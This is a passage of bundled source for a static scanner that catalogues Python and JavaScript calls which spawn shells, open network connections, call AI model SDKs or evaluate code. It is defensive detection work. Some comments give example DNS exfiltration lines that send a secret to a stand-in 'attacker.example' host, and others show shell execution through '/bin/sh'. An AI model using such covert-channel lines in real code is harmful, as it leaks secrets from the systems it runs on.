  py("uuid", call("_get_command_stdout"), "shell"),
  py("multiprocessing.util", call("spawnv_passfds"), "shell"),
  py("test.support.script_helper", call("run_python_until_end", "assert_python_ok", "assert_python_failure", "spawn_python"), "shell"),
  py("_winapi", call("CreateProcess"), "shell"),
  // Invoke's and sh's commands: `invoke.run("ls")`, `sh.ls("-l")` (any member of sh is a program of that name).
  py("invoke", call("run", "sudo", `Context${RETURNED}.run`, `Context${RETURNED}.sudo`), "shell"),
  py("sh", { [ANY]: "call", ...inert("ErrorReturnCode", "SignalException", "CommandNotFound", "TimeoutException") }, "shell"),
  py("asyncio", call(...ASYNCIO_SUBPROCESS, ...ASYNCIO_SUBPROCESS.map((m) => `subprocess.${m}`), ...EVENT_LOOPS.flatMap((l) => LOOP_SUBPROCESS.map((m) => `${l}${RETURNED}.${m}`))), "shell"),
  py("asyncio.subprocess", call(...ASYNCIO_SUBPROCESS), "shell"),
  py("asyncio", call("open_connection", "open_unix_connection", ...EVENT_LOOPS.flatMap((l) => LOOP_CONNECT.map((m) => `${l}${RETURNED}.${m}`))), "network"),
  py("pexpect", { ...call("spawn", "spawnu", "run", "runu", "popen_spawn.PopenSpawn"), ...client("pxssh.pxssh") }, "shell"),
  py("ptyprocess", call("PtyProcess.spawn", "PtyProcessUnicode.spawn"), "shell"),
  py("anyio", call("open_process", "run_process"), "shell"),
  // trio's open_process was trio.open_process, then trio.hazmat.open_process, before trio.lowlevel.open_process.
  py("trio", call("run_process", "lowlevel.open_process", "hazmat.open_process", "open_process"), "shell"),
  py("trio", { ...call("open_tcp_stream", "open_ssl_over_tcp_stream", "open_unix_socket", ...LOOP_LOOKUPS.map((m) => `socket.${m}`)), ...socketUse("socket.socket") }, "network"),
  py("anyio", call("connect_tcp", "connect_unix"), "network"),
  // Python \u2014 network
  py(
    "requests",
    {
      [ANY]: "call",
      ...call(...HTTP_FUNCTIONS),
      ...client("Session", "session"),
      // A transport adapter sends a prepared request itself (`HTTPAdapter().send(p)`); made and mounted on a session, it is a value.
      ...call(`adapters.HTTPAdapter${RETURNED}.send`),
      ...inert("Request", "PreparedRequest", "Response", "models", "exceptions", "codes", "status_codes", "utils", "structures", "auth", "HTTPBasicAuth", "HTTPDigestAuth", "adapters", "packages", "cookies", "hooks", "certs", "compat")
    },
    "network"
  ),
  py(
    "httpx",
    {
      [ANY]: "call",
      ...call(...HTTP_FUNCTIONS, "stream"),
      ...client("Client", "AsyncClient"),
      ...inert("Request", "Response", "Proxy", "HTTPTransport", "AsyncHTTPTransport", "MockTransport", "WSGITransport", "ASGITransport", "BaseTransport", "AsyncBaseTransport", "Timeout", "Limits", "URL", "Headers", "Cookies", "QueryParams", "BasicAuth", "DigestAuth", "Auth", "codes", "ByteStream")
    },
    "network"
  ),
  // A handler opens a request itself (`HTTPHandler().http_open(req)`) as an opener does through it.
  py("urllib.request", { ...call("urlopen", "urlretrieve", `HTTPHandler${RETURNED}.http_open`, `HTTPSHandler${RETURNED}.https_open`), ...client("build_opener", "OpenerDirector", "URLopener", "FancyURLopener"), ...inert("Request") }, "network"),
  py("http.client", client("HTTPConnection", "HTTPSConnection"), "network"),
  // An XML-RPC proxy: each method called on it is a request to the server (the construction is the finding).
  // Its transport sends a request by itself too (`Transport().request(host, "/RPC2", body)`).
  py("xmlrpc.client", { ...client("ServerProxy"), ...call(...["Transport", "SafeTransport"].flatMap((t) => ["request", "single_request"].map((m) => `${t}${RETURNED}.${m}`))) }, "network"),
  // A robots.txt fetched from its URL (`RobotFileParser(u).read()`); made, set or asked, the parser is local.
  py("urllib.robotparser", call(`RobotFileParser${RETURNED}.read`), "network"),
  // six's Python 2/3 names for the same modules (urllib3 1.26 imports http.client this way).
  py("six.moves.http_client", client("HTTPConnection", "HTTPSConnection"), "network"),
  py("six.moves.urllib.request", { ...call("urlopen", "urlretrieve"), ...client("build_opener"), ...inert("Request") }, "network"),
  // PySocks: a connection through a SOCKS proxy.
  py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
  py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
  // `_socket` is the C module under socket, importable by name, with the same socket class and lookups.
  ...["socket", "_socket"].map((m) => py(m, { ...call("create_connection", ...SOCKET_LOOKUPS), ...inert("socket"), ...socketUse("socket") }, "network")),
  // logging's handlers that send each record over the network (`logger.addHandler(HTTPHandler("x.example", "/"))`: any
  // `log.info(secret)` then leaves): made, they are the channel, as a client is.
  py("logging.handlers", client("HTTPHandler", "SocketHandler", "DatagramHandler", "SysLogHandler", "SMTPHandler"), "network"),
  // A TLS connection made to read a server's certificate, socket's `create_connection` as ssl re-exports it, and a
  // wrapped socket connecting (`ctx.wrap_socket(socket.socket(), server_hostname=h).connect(addr)`).
  py("ssl", call("get_server_certificate", "create_connection", ...["wrap_socket", ...["SSLContext", "create_default_context"].map((c) => `${c}${RETURNED}.wrap_socket`)].flatMap((w) => SOCKET_USE.map((m) => `${w}${RETURNED}.${m}`))), "network"),
  // multiprocessing's connection to a listener at an address (another host's as well as this one's).
  py("multiprocessing.connection", client("Client"), "network"),
  // A manager connected to a server at an address (`BaseManager(address=a).connect()`); a manager started here serves locally.
  py("multiprocessing.managers", call(...["BaseManager", "SyncManager"].map((m) => `${m}${RETURNED}.connect`)), "network"),
  // The interpreter multiprocessing starts its workers with: any program set there is run (`set_executable("/tmp/x")`).
  py("multiprocessing", call("set_executable", `get_context${RETURNED}.set_executable`, "spawn.set_executable"), "shell"),
  // The docker SDK: a client of the Docker daemon's API, local or remote; what it does (`containers.run`, `exec_run`:
  // processes started in containers by the daemon) are its requests, all one finding at the construction, as Fabric's.
  py("docker", client("from_env", "DockerClient", "APIClient", "client.from_env", "client.DockerClient", "api.APIClient", "api.client.APIClient"), "network"),
  // Fabric: an SSH connection to a host, whose `run` starts a shell there.
  py("fabric", client("Connection"), "network"),
  // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
  py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
  // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
  py("dns.resolver", { ...call("resolve", "query", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
  py("dns.asyncresolver", { ...call("resolve", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
  py("dns.query", call("udp", "tcp", "tls", "https", "quic", "udp_with_fallback", "xfr", "inbound_xfr"), "network"),
  py("aiodns", client("DNSResolver"), "network"),
  py("pycares", client("Channel"), "network"),
  py("websockets", call("connect", "client.connect", "sync.client.connect", "asyncio.client.connect"), "network"),
  // pycurl: a Curl handle (or a multi handle driving several) is the client that performs the transfers.
  py("pycurl", client("Curl", "CurlMulti"), "network"),
  // paramiko: an SSH client connects (its construction is the one finding); a ProxyCommand runs a shell command.
  py("paramiko", client("SSHClient", "Transport"), "network"),
  py("paramiko", call("ProxyCommand"), "shell"),
  // Browser automation: a browser (or Playwright's driver) is a process started on this machine; a remote one is a connection.
  py("playwright.sync_api", client("sync_playwright"), "shell"),
  py("playwright.async_api", client("async_playwright"), "shell"),
  py("selenium.webdriver", client(...SELENIUM_LOCAL), "shell"),
  py("selenium.webdriver", client("Remote"), "network"),
  py("pyppeteer", call("launch", "launcher.launch"), "shell"),
  py("pyppeteer", call("connect", "launcher.connect"), "network"),
  // MQTT: a client connects to a broker (paho-mqtt).
  py("paho.mqtt.client", call(...["connect", "connect_async"].map((m) => `Client${RETURNED}.${m}`)), "network"),
  // websocket-client
  py("websocket", { ...call("create_connection"), ...client("WebSocketApp"), ...inert("WebSocket"), ...call(`WebSocket${RETURNED}.connect`) }, "network"),
  // python-socks: a proxy object connects to the target through the proxy.
  py("python_socks.sync", call(...["create", "from_url"].map((m) => `Proxy.${m}${RETURNED}.connect`)), "network"),
  py("grpc", client("insecure_channel", "secure_channel", "aio.insecure_channel", "aio.secure_channel"), "network"),
  // The standard library's protocol clients: each connects when constructed with a host (or by its `connect`/`open`
  // method later); the construction is the one finding. IMAP4_stream runs its argument as a shell command.
  py("ftplib", client("FTP", "FTP_TLS"), "network"),
  py("smtplib", client("SMTP", "SMTP_SSL", "LMTP"), "network"),
  py("poplib", client("POP3", "POP3_SSL"), "network"),
  py("imaplib", client("IMAP4", "IMAP4_SSL"), "network"),
  py("imaplib", call("IMAP4_stream"), "shell"),
  py("nntplib", client("NNTP", "NNTP_SSL"), "network"),
  // Deprecated (removed in Python 3.13) but still in older interpreters.
  py("telnetlib", client("Telnet"), "network"),
  // urllib3: the module-level request (2.x) crosses; a pool or manager is a client. Its exceptions, Retry, Timeout are values.
  py(
    "urllib3",
    {
      ...call("request"),
      ...client("PoolManager", "ProxyManager", "HTTPConnectionPool", "HTTPSConnectionPool", "connection_from_url", "proxy_from_url", "poolmanager.PoolManager", "poolmanager.ProxyManager", "poolmanager.proxy_from_url", "connectionpool.HTTPConnectionPool", "connectionpool.HTTPSConnectionPool", "connectionpool.connection_from_url", "connection.HTTPConnection", "connection.HTTPSConnection"),
      ...inert("exceptions", "util", "Retry", "Timeout", "HTTPResponse", "BaseHTTPResponse", "HTTPHeaderDict", "make_headers", "disable_warnings", "add_stderr_logger", "fields", "filepost", "encode_multipart_formdata")
    },
    "network"
  ),
  // boto3: a client or resource for an AWS service (Bedrock's models among them) sends each of its calls to AWS.
  py("boto3", client("client", "resource", ...["Session", "session.Session"].flatMap((s) => [`${s}${RETURNED}.client`, `${s}${RETURNED}.resource`])), "network"),
  // Python \u2014 model SDKs
  py("openai", { [ANY]: "call", ...client("OpenAI", "AsyncOpenAI", "AzureOpenAI", "AsyncAzureOpenAI", "DefaultHttpxClient", "DefaultAsyncHttpxClient", "Client", "AsyncClient"), ...inert("types", "NOT_GIVEN", "NotGiven", "error", "pydantic_function_tool") }, "model"),
  py("anthropic", { [ANY]: "call", ...client("Anthropic", "AsyncAnthropic", "AnthropicBedrock", "AsyncAnthropicBedrock", "AnthropicVertex", "AsyncAnthropicVertex", "Client", "AsyncClient"), ...inert("types", "NOT_GIVEN", "NotGiven", "HUMAN_PROMPT", "AI_PROMPT") }, "model"),
  py("google.generativeai", { [ANY]: "call", ...client("GenerativeModel"), ...inert("types", "configure", "GenerationConfig", "protos") }, "model"),
  py("google.genai", { [ANY]: "call", ...client("Client"), ...inert("types", "errors") }, "model"),
  py("cohere", { [ANY]: "call", ...client("Client", "ClientV2", "AsyncClient", "AsyncClientV2"), ...inert("types") }, "model"),
  py("mistralai", { [ANY]: "call", ...client("Mistral"), ...inert("models") }, "model"),
  // litellm's endpoints (chat, embeddings, images, audio, moderation, rerank, batches, retries) and its Router (a client over deployments).
  py("litellm", { ...call(...withAsync("a", "completion", "embedding", "text_completion", "responses", "image_generation", "transcription", "speech", "moderation", "rerank", "completion_with_retries"), "batch_completion"), ...client("Router") }, "model"),
  py("ollama", { ...call(...OLLAMA_REQUESTS, "web_search", "web_fetch"), ...client("Client", "AsyncClient") }, "model"),
  py("groq", client("Groq", "AsyncGroq", "Client", "AsyncClient"), "model"),
  py("together", client("Together", "AsyncTogether", "Client", "AsyncClient"), "model"),
  py("replicate", { ...call(...REPLICATE_REQUESTS), ...client("Client") }, "model"),
  // Hugging Face Inference only: the Hub's file and repository functions are not model calls.
  py("huggingface_hub", client("InferenceClient", "AsyncInferenceClient", "InferenceApi"), "model"),
  py("langchain_openai", langchainModels({ chat_models: ["ChatOpenAI", "AzureChatOpenAI"], embeddings: ["OpenAIEmbeddings", "AzureOpenAIEmbeddings"], llms: ["OpenAI", "AzureOpenAI"] }), "model"),
  py("langchain_anthropic", langchainModels({ chat_models: ["ChatAnthropic", "ChatAnthropicMessages"], llms: ["AnthropicLLM", "Anthropic"] }), "model"),
  py("langchain_google_genai", { ...langchainModels({ chat_models: ["ChatGoogleGenerativeAI"], embeddings: ["GoogleGenerativeAIEmbeddings"], llms: ["GoogleGenerativeAI"] }), ...call("create_context_cache") }, "model"),
  py("langchain_ollama", langchainModels({ chat_models: ["ChatOllama"], embeddings: ["OllamaEmbeddings"], llms: ["OllamaLLM"] }), "model"),
  py("langchain_mistralai", langchainModels({ chat_models: ["ChatMistralAI"], embeddings: ["MistralAIEmbeddings"] }), "model"),
  py("langchain_groq", langchainModels({ chat_models: ["ChatGroq"] }), "model"),
  py("vertexai", client("generative_models.GenerativeModel", "preview.generative_models.GenerativeModel"), "model"),
  // LangChain's model by name (`init_chat_model("openai:gpt-4o")`): the model it makes, a client as the classes above.
  py("langchain.chat_models", client("init_chat_model", "base.init_chat_model"), "model"),
  py("langchain.embeddings", client("init_embeddings", "base.init_embeddings"), "model"),
  // Python \u2014 code run from a string (bare, they are the builtins unless the file binds the name)
  ...EVALUATOR_MODULES.python.map((module2) => py(module2, call(...evaluatorsOf("python", module2)), "code")),
  // JavaScript / TypeScript \u2014 shell
  // The class under spawn, made and started by hand (`new ChildProcess().spawn({ file, args })`).
  js("child_process", call(...CHILD_PROCESS, `ChildProcess${RETURNED}.spawn`), "shell"),
  // A worker process of the cluster runs the main module, or what `cluster.setupPrimary({ exec, execArgv })` names (`-e` code too).
  js("cluster", call("fork"), "shell"),
  js("cross-spawn", call(DEFAULT, "spawn", "sync"), "shell"),
  // execa \u2264 6 hangs the variants off the default export (execa.sync, execa.command \u2026).
  js("execa", call(DEFAULT, "execa", "execaSync", "execaCommand", "execaCommandSync", "execaNode", "$", "sync", "command", "commandSync", "node"), "shell"),
  js("shelljs", call("exec"), "shell"),
  // open: opens a URL or file with the system's handler (xdg-open, `start`, `open`) in a child process.
  js("open", { ...call(DEFAULT, "openApp"), ...inert("apps") }, "shell"),
  js("zx", call("$"), "shell"),
  js("tinyexec", call("x", "xSync", "exec", "execSync"), "shell"),
  js("@actions/exec", call("exec", "getExecOutput"), "shell"),
  js("node-pty", call("spawn", "fork", "createTerminal"), "shell"),
  // Node's internal bindings, below child_process and net, loaded by name with `process.binding(\u2026)` (deprecated, still
  // answered in Node 20 and 22): `process.binding("spawn_sync").spawn(opts)` starts a process.
  js("spawn_sync", call("spawn"), "shell"),
  js("process_wrap", client("Process"), "shell", "new"),
  // Bun's shell runs its template as a command line (`` Bun.$`ls ${dir}` ``).
  js(GLOBAL, call("Bun.spawn", "Bun.spawnSync", "Bun.$", "Deno.run"), "shell", "call"),
  // Node 22.15 and 23.11: the process becomes the program given (`process.execve("/bin/sh", ["sh", "-c", cmd])`).
  js(GLOBAL, call("process.execve"), "shell", "call"),
  js(GLOBAL, call("Deno.Command"), "shell", "new"),
  // JavaScript / TypeScript \u2014 network
  js(GLOBAL, call("fetch"), "network", "call"),
  // The Beacon API: a POST the browser sends on its own (`navigator.sendBeacon(url, data)`).
  js(GLOBAL, call("navigator.sendBeacon"), "network", "call"),
  // Bun's and Deno's own sockets, name lookups and clients (Bun's S3, SQL and Redis clients connect to a server).
  js(GLOBAL, call("Bun.connect", "Bun.udpSocket", "Bun.dns.lookup", "Deno.connect", "Deno.connectTls", "Deno.startTls", "Deno.resolveDns", "Deno.connectQuic"), "network", "call"),
  js(GLOBAL, client("Bun.S3Client", "Bun.SQL", "Bun.RedisClient"), "network", "new"),
  js(GLOBAL, call("WebSocket"), "network", "new"),
  // A browser's (and Deno's) request object: made to be opened and sent.
  js(GLOBAL, call("XMLHttpRequest"), "network", "new"),
  js("http", call("request", "get"), "network", "call"),
  js("https", call("request", "get"), "network", "call"),
  // A request made by its class, and an agent's sockets opened by hand (`http.globalAgent.createConnection(opts)`).
  // Node's internal modules behind http and tls load by name too (`require("_http_client")`): the same members.
  ...["http", "_http_client"].map((m) => js(m, call("ClientRequest"), "network", "new")),
  ...["http", "https", "_http_agent"].map((m) => js(m, call("globalAgent.createConnection", `Agent${RETURNED}.createConnection`), "network", "call")),
  js("http2", call("connect"), "network", "call"),
  js("net", call("connect", "createConnection", `Socket${RETURNED}.connect`, `Stream${RETURNED}.connect`), "network", "call"),
  ...["tls", "_tls_wrap"].map((m) => js(m, call("connect", `TLSSocket${RETURNED}.connect`), "network", "call")),
  // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
  js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
  js("dns/promises", { ...call(...DNS_QUERIES), ...client("Resolver") }, "network"),
  // A UDP socket crosses when it sends a datagram or connects to a peer, not when it is made (as Python's socket).
  js("tcp_wrap", client("TCP"), "network", "new"),
  js("pipe_wrap", client("Pipe"), "network", "new"),
  js("udp_wrap", client("UDP"), "network", "new"),
  js("dgram", { ...inert("createSocket"), ...call(...["send", "connect"].map((m) => `createSocket${RETURNED}.${m}`)) }, "network", "call"),
  js("axios", { [ANY]: "call", ...client("create", "Axios"), ...inert("isAxiosError", "isCancel", "AxiosError", "CanceledError", "AxiosHeaders", "toFormData", "formToJSON", "mergeConfig", "getAdapter", "HttpStatusCode", "interceptors", "defaults", "CancelToken", "Cancel", "all", "spread") }, "network"),
  js("got", { [ANY]: "call", ...client("extend"), ...inert("RequestError", "HTTPError", "TimeoutError") }, "network"),
  js("node-fetch", { [ANY]: "call", ...inert("Headers", "Request", "Response", "FormData", "Blob", "File", "FetchError", "AbortError", "isRedirect") }, "network"),
  // superagent, needle and ky: a request made by the module called, or by its method-named functions; ssh2's client connects.
  js("superagent", { [ANY]: "call", ...client("agent") }, "network"),
  js("needle", { [ANY]: "call", ...inert("defaults") }, "network"),
  js("ky", { [ANY]: "call", ...client("create", "extend"), ...inert("HTTPError", "TimeoutError", "stop") }, "network"),
  js("ssh2", client("Client"), "network", "new"),
  js("undici", { ...call("request", "fetch", "stream", "connect"), ...client("Client", "Pool", "Agent") }, "network"),
  js("ws", call(DEFAULT, "WebSocket"), "network", "new"),
  js("eventsource", call(DEFAULT, "EventSource"), "network", "new"),
  js(GLOBAL, call("EventSource"), "network", "new"),
  js("@grpc/grpc-js", client("Client", "Channel"), "network", "new"),
  // follow-redirects' own http and https (`require("follow-redirects").https.get(u)`).
  js("follow-redirects", call(...["http", "https"].flatMap((m) => ["request", "get"].map((f) => `${m}.${f}`))), "network", "call"),
  // GitHub's and Azure DevOps' HTTP clients, and Octokit's request function and clients.
  js("@actions/http-client", client("HttpClient"), "network", "new"),
  js("@octokit/request", call("request"), "network", "call"),
  ...["@octokit/rest", "@octokit/core", "octokit"].map((m) => js(m, client("Octokit"), "network", "new")),
  ...[["typed-rest-client", "RestClient"], ["typed-rest-client/RestClient", "RestClient"], ["typed-rest-client/HttpClient", "HttpClient"]].map(([m, c]) => js(m, client(c), "network", "new")),
  // A proxy agent's connection opened by hand (`new HttpsProxyAgent(p).connect(req, opts)`); made, it is handed to a request.
  ...[["https-proxy-agent", "HttpsProxyAgent"], ["http-proxy-agent", "HttpProxyAgent"], ["socks-proxy-agent", "SocksProxyAgent"]].map(([m, a]) => js(m, call(`${a}${RETURNED}.connect`), "network", "call")),
  // Browser automation: a browser launched is a process on this machine; one connected to, a connection.
  ...PLAYWRIGHT_PACKAGES.flatMap((m) => [js(m, call(...PLAYWRIGHT_BROWSERS.flatMap((b) => PLAYWRIGHT_LAUNCH.map((l) => `${b}.${l}`)), "_electron.launch", "_android.launchServer"), "shell"), js(m, call(...PLAYWRIGHT_BROWSERS.flatMap((b) => PLAYWRIGHT_CONNECT.map((c) => `${b}.${c}`)), "_android.connect"), "network")]),
  ...["puppeteer", "puppeteer-core"].flatMap((m) => [js(m, call("launch"), "shell"), js(m, call("connect"), "network")]),
  // selenium-webdriver: building a driver starts the browser's driver process (or connects to a server named by usingServer).
  js("selenium-webdriver", client("Builder"), "shell", "new"),
  // Mail, Socket.IO and MQTT: a transport sends to a server, a socket and a client connect.
  js("nodemailer", client("createTransport"), "network"),
  js("socket.io-client", call(DEFAULT, "io", "connect", "Manager"), "network"),
  js("mqtt", call(DEFAULT, "connect", "connectAsync"), "network"),
  // JavaScript / TypeScript \u2014 code run from a string
  js(GLOBAL, call(...evaluatorsOf("javascript", GLOBAL)), "code"),
  ...EVALUATOR_MODULES.javascript.map((module2) => js(module2, call(...evaluatorsOf("javascript", module2)), "code")),
  // JavaScript / TypeScript \u2014 model SDKs (client construction, module-level calls, calls on clients)
  ...modelEntries("openai", ["client", "azure", "bedrock"]).map((m) => js(m, { [ANY]: "call", ...client(DEFAULT, "OpenAI", "AzureOpenAI", "BedrockOpenAI"), ...inert("toFile") }, "model")),
  ...modelEntries("@anthropic-ai/sdk", ["client"]).map((m) => js(m, { [ANY]: "call", ...client(DEFAULT, "Anthropic", "BaseAnthropic"), ...inert("toFile") }, "model")),
  js("@google/generative-ai", { [ANY]: "call", ...client("GoogleGenerativeAI"), ...inert("SchemaType", "HarmCategory", "HarmBlockThreshold", "FunctionCallingMode") }, "model"),
  js("@google/genai", { [ANY]: "call", ...client("GoogleGenAI"), ...inert("Type", "HarmCategory", "HarmBlockThreshold", "createUserContent", "createPartFromUri") }, "model"),
  js("cohere-ai", { [ANY]: "call", ...client("CohereClient", "CohereClientV2") }, "model"),
  js("@mistralai/mistralai", { [ANY]: "call", ...client("Mistral") }, "model"),
  js("ai", call(...AI_SDK_CALLS), "model"),
  ...["ollama", "ollama/browser"].map((m) => js(m, OLLAMA_JS, "model")),
  js("groq-sdk", { [ANY]: "call", ...client(DEFAULT, "Groq"), ...inert("toFile") }, "model"),
  js("replicate", client(DEFAULT), "model"),
  js("@huggingface/inference", { ...call(...HF_INFERENCE_TASKS), ...client("InferenceClient", "InferenceClientEndpoint", "HfInference", "HfInferenceEndpoint") }, "model"),
  js("@aws-sdk/client-bedrock-runtime", client("BedrockRuntimeClient", "BedrockRuntime"), "model"),
  // LangChain's model classes: each a client (`new ChatOpenAI()` \u2026 `model.invoke(...)`).
  js("@langchain/openai", client("ChatOpenAI", "AzureChatOpenAI", "ChatOpenAICompletions", "ChatOpenAIResponses", "AzureChatOpenAICompletions", "AzureChatOpenAIResponses", "OpenAI", "AzureOpenAI", "OpenAIEmbeddings", "AzureOpenAIEmbeddings", "DallEAPIWrapper", "OpenAIClient"), "model"),
  js("@langchain/anthropic", client("ChatAnthropic", "ChatAnthropicMessages"), "model"),
  js("@langchain/google-genai", client("ChatGoogleGenerativeAI", "GoogleGenerativeAIEmbeddings"), "model"),
  js("@langchain/ollama", client("ChatOllama", "Ollama", "OllamaEmbeddings"), "model"),
  js("@langchain/mistralai", client("ChatMistralAI", "MistralAI", "MistralAIEmbeddings"), "model"),
  js("@langchain/groq", client("ChatGroq"), "model"),
  ...["langchain", "langchain/chat_models/universal"].map((m) => js(m, client("initChatModel"), "model"))
];

// core/scan/project.ts
var JS_EXTENSIONS = [".ts", ".tsx", ".mts", ".cts", ".js", ".jsx", ".mjs", ".cjs"];
var ProjectSymbols = class {
  /**
   * `files`: what each file offers (files without symbols need not be listed); `known`: every scanned
   * file (a specifier resolves only to one of them), by default those of `files`; `resolved`: specifiers resolved
   * by importing folder (most files of a folder import the same few), kept by a caller that builds the table again
   * over the same files and aliases (the cross-file rounds).
   */
  constructor(files, aliases, known = files, resolved = /* @__PURE__ */ new Map()) {
    this.files = files;
    this.aliases = aliases;
    this.known = known;
    this.resolved = resolved;
    for (const [file, symbols] of files) {
      this.stems.add(stemOf(file)).add(import_node_path3.posix.basename(file).replace(/\.[^.]*$/, "")).add(import_node_path3.posix.basename(file));
      for (const name2 of Object.keys(symbols.exports)) this.offered.add(name2).add(name2.split(".")[0]);
      if (symbols.exports.default) this.wholeDefault = true;
      for (const link2 of symbols.links) if (link2.reexport) for (const [, local] of link2.names) this.offered.add(local);
    }
  }
  files;
  aliases;
  known;
  resolved;
  /** Every name some file exports or re-exports: an import of any other name cannot reach a watched value. */
  offered = /* @__PURE__ */ new Set();
  /** Does some file's module.exports or default export hold a watched value (whose members any name may import)? */
  wholeDefault = false;
  /** The module names files with symbols are imported by (`shell` for lib/shell.ts, `lib` for lib/index.ts): the cheap test before resolving. */
  stems = /* @__PURE__ */ new Set();
  /** Does any file offer a watched value at all? (If not, no second pass is needed.) */
  get empty() {
    return this.offered.size === 0 || [...this.files.values()].every((s) => Object.keys(s.exports).length === 0);
  }
  /** The project file an import names, or undefined (a package, or a file not scanned). */
  resolveSpecifier(from, specifier) {
    const key = `${import_node_path3.posix.dirname(from)}\0${from.endsWith(".py") ? "py" : "js"}\0${specifier}`;
    if (this.resolved.has(key)) return this.resolved.get(key);
    const file = this.resolveUncached(from, specifier);
    this.resolved.set(key, file);
    return file;
  }
  resolveUncached(from, specifier) {
    if (from.endsWith(".py")) {
      const dots = /^\.*/.exec(specifier)[0].length;
      const rest = specifier.slice(dots).split(".").filter(Boolean);
      let dir = dots ? import_node_path3.posix.dirname(from) : "";
      for (let i2 = 1; i2 < dots; i2++) dir = import_node_path3.posix.dirname(dir);
      const bases = dots ? [dir] : ancestors(import_node_path3.posix.dirname(from));
      for (const b of bases) {
        const base = import_node_path3.posix.join(b === "." ? "" : b, ...rest);
        if (rest.length && this.known.has(`${base}.py`)) return `${base}.py`;
        const init2 = base === "." ? "__init__.py" : `${base}/__init__.py`;
        if (this.known.has(init2)) return init2;
      }
      return void 0;
    }
    if (!specifier.startsWith(".")) return this.aliases ? aliasCandidates(this.aliases, specifier, from).map((c) => this.jsFile(c)).find((c) => c !== void 0) : void 0;
    return this.jsFile(import_node_path3.posix.join(import_node_path3.posix.dirname(from), specifier));
  }
  /** The scanned file a JavaScript module path names (with or without extension, or its folder's index). */
  jsFile(base) {
    if (this.known.has(base)) return base;
    const stem = base.replace(/\.(?:js|mjs|cjs|jsx)$/, "");
    for (const extension of JS_EXTENSIONS) if (this.known.has(stem + extension)) return stem + extension;
    for (const extension of JS_EXTENSIONS) if (this.known.has(`${base}/index${extension}`)) return `${base}/index${extension}`;
    return void 0;
  }
  /**
   * Each file's exports once settled (own and re-exported, in link order, the first that offers a name deciding), and
   * the object whose every member it offers through `export *`/`module.exports = require(\u2026)` (a re-exported
   * `module.exports = require("child_process")`): the table does not change once built.
   */
  settled = /* @__PURE__ */ new Map();
  /** The watched value `name` has in `file`, following re-exports however many files deep; steps in other files are placed. */
  lookup(file, name2) {
    const symbols = this.files.get(file);
    if (!symbols) return void 0;
    this.settle(file);
    return this.valueIn(file, name2);
  }
  /** `name` in `file` from its own symbols, then what its links offer as far as settled (settle's fixed point). */
  valueIn(file, name2) {
    const symbols = this.files.get(file);
    if (!symbols) return void 0;
    const own = ownEntry(symbols.exports, name2) ?? this.viaDefault(symbols, name2);
    if (own) return own;
    const state = this.settled.get(file);
    return (state && ownEntry(state.exports, name2)) ?? (state?.whole && name2 !== "default" ? extend(state.whole, name2) : void 0);
  }
  /** `module.exports = require("child_process")` then `require("./cp").exec`: a member of what module.exports holds. */
  viaDefault(symbols, name2) {
    const whole = name2 !== "default" ? this.ownWhole(symbols) : void 0;
    return whole ? extend(whole, name2) : void 0;
  }
  /** What the file's own module.exports or default export holds, when a module or an object (`export default exec` has no members to import by name). */
  ownWhole(symbols) {
    const whole = symbols.exports.default;
    const object = whole && (whole.members.length === 0 || whole.members[whole.members.length - 1] === RETURNED);
    return whole && object && whole.module !== GLOBAL ? whole : void 0;
  }
  /** Every watched value `file` offers by name, own and re-exported (however many files deep); shared, so frozen. */
  exportsOf(file) {
    if (!this.files.has(file)) return {};
    this.settle(file);
    return this.settled.get(file).exports;
  }
  /**
   * Settle `file` and every file its re-exports reach: a fixed point over them (no recursion, so a chain of thousands
   * of files costs no stack), each file's exports computed again only when a file it re-exports from changed.
   */
  settle(file) {
    if (this.settled.has(file)) return;
    const reached = [file];
    const importers = /* @__PURE__ */ new Map();
    const seen = new Set(reached);
    for (let i2 = 0; i2 < reached.length; i2++) {
      for (const link2 of this.files.get(reached[i2])?.links ?? []) {
        const target = link2.reexport ? this.resolveSpecifier(reached[i2], link2.specifier) : void 0;
        if (!target || !this.files.has(target) || this.settled.has(target)) continue;
        const list = importers.get(target);
        if (list) list.push(reached[i2]);
        else importers.set(target, [reached[i2]]);
        if (!seen.has(target)) reached.push(target), seen.add(target);
      }
    }
    for (const f of reached) this.settled.set(f, { exports: namesRecord() });
    const queue = reached.reverse();
    const queued = new Set(queue);
    for (let i2 = 0; i2 < queue.length; i2++) {
      const f = queue[i2];
      queued.delete(f);
      const next = this.offeredBy(f);
      if (sameOffer(this.settled.get(f), next)) continue;
      this.settled.set(f, next);
      for (const importer of importers.get(f) ?? []) if (!queued.has(importer)) queue.push(importer), queued.add(importer);
    }
    for (const f of reached) Object.freeze(this.settled.get(f).exports);
  }
  /** What `file` offers from its own symbols and its links' targets as settled so far. */
  offeredBy(file) {
    const symbols = this.files.get(file);
    const out2 = namesRecord(symbols.exports);
    let whole;
    for (const link2 of symbols.links) {
      if (!link2.reexport) continue;
      const target = this.resolveSpecifier(file, link2.specifier);
      if (!target) continue;
      for (const [imported, local] of link2.names) {
        if (imported === "*") {
          const prefix = link2.namespace !== void 0 ? `${link2.namespace}.` : "";
          for (const [name2, path2] of Object.entries(this.settled.get(target)?.exports ?? {})) out2[prefix + name2] ??= link2.hop ? placed(path2, link2.hop) : path2;
          const targetWhole = link2.namespace === void 0 && !whole && this.files.has(target) ? this.ownWhole(this.files.get(target)) ?? this.settled.get(target)?.whole : void 0;
          if (targetWhole) whole = link2.hop ? placed(targetWhole, link2.hop) : targetWhole;
        } else if (!out2[local]) {
          const path2 = this.valueIn(target, imported);
          if (path2) out2[local] = link2.hop ? placed(path2, link2.hop) : path2;
        }
      }
    }
    return whole ? { exports: out2, whole } : { exports: out2 };
  }
  /** Could a JavaScript specifier name a file with symbols (a relative one by its last segment; an alias may map to any file)? */
